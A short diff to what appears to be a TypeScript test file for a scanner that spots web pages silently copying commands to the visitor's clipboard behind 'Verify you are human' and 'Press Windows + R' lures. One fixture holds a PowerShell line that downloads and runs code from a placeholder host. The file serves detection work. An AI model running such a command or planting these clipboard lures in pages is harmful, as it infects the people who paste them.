@@ -11,6 +11,12 @@ describe('what code copies and the page does not show', () => {
   const cases: [what: string, code: string, text: string, ...kinds: string[]][] = [
     ['a command', `navigator.clipboard.writeText('${COMMAND}')`, 'Verify you are human', 'copies-hidden-command'],
     [
+      'a command in an item',
+      `navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['${COMMAND}'], { type: 'text/plain' }) })])`,
+      'Verify you are human',
+      'copies-hidden-command',
+    ],
+    [
       'a command with quotation marks',
       String.raw`navigator.clipboard.writeText("powershell -c \"iwr https://drop.test/v | iex\"")`,
       'Press Windows + R',
